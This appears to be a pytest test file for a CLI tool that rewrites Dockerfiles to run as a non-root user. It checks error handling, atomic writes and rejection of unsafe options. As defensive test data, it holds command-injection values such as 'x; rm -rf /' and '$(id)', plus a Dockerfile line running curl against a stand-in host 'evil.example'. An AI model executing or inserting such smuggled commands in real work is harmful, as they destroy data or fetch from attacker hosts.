"""The bad-input catalogue: each gives a clear message naming the file (and line), exit 2, and
leaves the file byte-identical. Fixture pairs in fixtures/error-* cover the parse errors too."""

from __future__ import annotations

import os
import time

import pytest

GOOD = b"FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y curl\n"

CATALOGUE = [
    ("binary", b"\x7fELF\x02\x01\x01\x00\x00\x00" + bytes(range(256)), "binary"),
    ("latin-1", "FROM debian\nLABEL author=\"Jos\xe9\"\n".encode("latin-1"), "UTF-8"),
    ("empty", b"", "empty"),
    ("only-comments", b"# just a comment\n\n# another\n", "no instructions"),
    ("no-from", b"RUN apt-get update\nCMD [\"x\"]\n", "FROM"),
    ("unknown-instruction", b"FROM debian\nFROB x\n", ":2: unknown instruction: FROB"),
    ("jinja", b"FROM {{ base }}\n{% if x %}\nRUN a\n{% endif %}\n", "unknown instruction"),
    ("unterminated-heredoc", b"FROM debian\nRUN <<EOF\necho hi\n", "heredoc"),
    ("continuation-at-eof", b"FROM debian\nRUN apt-get update \\\n", "continuation"),
    ("too-large", b"FROM debian:12\n" + b"RUN echo x > /tmp/x\n" * 600_000, "too large"),
]


@pytest.mark.parametrize("name,data,message", CATALOGUE, ids=[c[0] for c in CATALOGUE])
def test_bad_file(name, data, message, tmp_path, cli):
    f = tmp_path / "Dockerfile"
    f.write_bytes(data)
    t = time.perf_counter()
    code, out, err = cli(["--write", f])
    assert time.perf_counter() - t < 5
    assert code == 2, (out, err)
    assert str(f) in err and message in err, err
    assert "Traceback" not in err
    assert f.read_bytes() == data


def test_folder_given_as_a_file_is_searched_and_an_empty_one_is_said(tmp_path, cli):
    d = tmp_path / "Dockerfile"  # a folder with a Dockerfile's name
    d.mkdir()
    code, out, err = cli([d])
    assert code == 0 and "no Dockerfiles found" in err


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode")
def test_unreadable_file(tmp_path, cli):
    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)
    f.chmod(0)
    code, out, err = cli(["--write", f])
    assert code == 2 and "cannot read" in err


def test_read_only_file_is_not_written(tmp_path, cli):
    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)
    f.chmod(0o444)
    code, out, err = cli(["--write", f])
    assert code == 2 and "read-only" in err
    assert f.read_bytes() == GOOD


def test_read_only_folder_error_leaves_file_and_no_temp(tmp_path, cli, monkeypatch):
    """No temporary file can be created next to the file: a clear error, nothing changed."""
    import tempfile

    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)

    def refuse(*a, **k):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    code, out, err = cli(["--write", f])
    assert code == 2 and str(f) in err and "Traceback" not in err
    assert f.read_bytes() == GOOD
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile"]


def test_symlink_target_written_atomically_link_kept(tmp_path, cli):
    real = tmp_path / "real.Dockerfile"
    real.write_bytes(GOOD)
    link = tmp_path / "Dockerfile"
    link.symlink_to(real.name)
    code, out, err = cli(["--write", link])
    assert code == 0, err
    assert link.is_symlink() and os.readlink(link) == real.name
    assert b"USER appuser" in real.read_bytes()


def test_file_changed_on_disk_between_read_and_write_is_refused(tmp_path):
    from fixer.errors import DockerfixError
    from fixer.output import write_atomic

    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)
    f.write_bytes(GOOD + b"# edited meanwhile\n")
    with pytest.raises(DockerfixError, match="changed"):
        write_atomic(str(f), b"new", GOOD)
    assert f.read_bytes() == GOOD + b"# edited meanwhile\n"


@pytest.mark.parametrize(
    "args",
    [["--user", "x; rm -rf /"], ["--user", "$(id)"], ["--group", "a b"], ["--uid", "0"], ["--uid", "-1"],
     ["--gid", "99999999999"], ["--writable", "/data; rm -rf /"], ["--writable", "relative/path"]],
)
def test_injection_refused_before_any_file_is_touched(args, tmp_path, cli):
    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)
    code, out, err = cli([*args, "--write", f])
    assert code == 2 and "error" in err
    assert f.read_bytes() == GOOD


def test_user_value_from_the_dockerfile_is_never_reused_unless_plain(tmp_path, cli):
    f = tmp_path / "Dockerfile"
    data = b"FROM debian:12\nUSER $(curl evil.example)\nUSER root\nRUN apt-get install -y x\n"
    f.write_bytes(data)
    code, out, err = cli(["--write", f])
    assert code == 0
    fixed = f.read_bytes()
    assert fixed.endswith(b"USER appuser\n") and b"curl" not in fixed[len(data):]
    assert "not a plain user name" in err


def test_too_large_stdin_gives_the_whole_text_back(cli):
    """An editor replaces its buffer with what it gets: on the size error, all of it comes back."""
    data = "FROM debian:12\n" + "RUN echo x > /tmp/x\n" * 60_000  # > 1 MiB
    code, out, err = cli(["-", "--stdin-filename", "Dockerfile"], input=data)
    assert code == 2 and "too large" in err
    assert out == data


# --- issue 12: system folders and system accounts, refused before any file is touched ------------------

SYSTEM_OPTIONS = [
    (["--writable", "/etc"], "--writable /etc: /etc is a system folder"),
    (["--writable", "/"], "--writable /: / is the root of the file system"),
    (["--writable", "/usr/bin"], "--writable /usr/bin: /usr/bin is a system folder"),
    (["--writable", "/a/../etc"], "--writable /a/../etc: /a/../etc has a '.' or '..' component"),
    (["--writable", "//etc//"], "--writable //etc//: //etc// is a system folder"),
    (["--writable", "/var/lib/dpkg"], "is a system folder"),
    (["--user", "root"], "--user root: root is the superuser"),
    (["--user", "nobody"], "--user nobody: nobody is the shared unprivileged account"),
    (["--user", "daemon"], "--user daemon: daemon is a system user"),
    (["--group", "users"], "--group users: users is a system group"),
    (["--uid", "65534"], "--uid 65534: every base image already has that id"),
    (["--uid", "\u0661\u0660\u0660\u0660\u0661"], "--uid"),  # Arabic-Indic digits are not an id
]


@pytest.mark.parametrize("args,message", SYSTEM_OPTIONS, ids=[" ".join(a) for a, _ in SYSTEM_OPTIONS])
def test_system_folder_or_account_refused_before_any_file_is_touched(args, message, tmp_path, cli):
    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)
    code, out, err = cli([*args, "--write", f])
    assert code == 2 and message in err and "Traceback" not in err, err
    assert f.read_bytes() == GOOD


def test_gid_taken_in_the_family_is_an_error_naming_the_from_line(tmp_path, cli):
    f = tmp_path / "Dockerfile"
    f.write_bytes(GOOD)
    code, out, err = cli(["--gid", "100", "--write", f])
    assert code == 2 and f"{f}:1: --gid 100: the base image (debian family) already has group users (100)" in err
    assert f.read_bytes() == GOOD
